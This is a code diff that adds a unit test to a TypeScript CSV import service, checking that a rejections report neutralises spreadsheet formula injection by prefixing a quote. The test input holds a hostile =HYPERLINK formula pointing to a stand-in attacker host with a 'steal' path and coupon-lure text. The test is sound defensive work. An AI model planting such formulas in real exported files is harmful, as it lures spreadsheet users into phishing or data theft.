@@ -5,6 +5,7 @@ import iconv from 'iconv-lite';
 import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { injector, startTestKith, staffSession, systemCtx, type TestKith } from '../../../../test/harness.js';
+import { rejectionsCsv } from './import.service.js';
 
 const fixtures = path.join(import.meta.dirname, '../formats/fixtures');
 const membersCsv = fs.readFileSync(path.join(fixtures, 'members-utf8-bom.csv'));
@@ -134,6 +135,14 @@ describe('chat import', () => {
     expect(r2.createdRows).toBe(1);
     expect(r2.duplicateRows).toBe(r.createdRows);
     expect(await count()).toBe(before + 1);
+  });
+});
+
+describe('rejections CSV', () => {
+  it('defuses a reason that would run as a formula in a spreadsheet (it quotes the file\'s own cells)', () => {
+    expect(rejectionsCsv([{ line: 3, reason: '=HYPERLINK("http://evil.example/steal","点我领券"): is not a phone number' }, { line: 4, reason: '手机号: "1380013" is not a valid phone number' }])).toBe(
+      '\ufeffline,reason\r\n3,"\'=HYPERLINK(""http://evil.example/steal"",""点我领券""): is not a phone number"\r\n4,"手机号: ""1380013"" is not a valid phone number"\r\n',
+    );
   });
 });
 
